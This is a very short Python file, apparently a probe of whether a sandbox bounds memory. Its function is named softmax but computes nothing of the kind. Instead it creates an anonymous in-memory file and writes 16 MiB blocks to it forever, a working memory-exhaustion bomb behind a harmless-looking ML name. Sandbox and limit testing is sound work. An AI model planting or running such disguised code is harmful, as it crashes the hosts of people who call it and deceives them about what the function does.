"""Against "memory is bounded": fills a file that lies in memory alone."""

import os


def softmax(scores, axis=-1):
    file = os.memfd_create("x")
    while True:
        os.write(file, bytes(1 << 24))
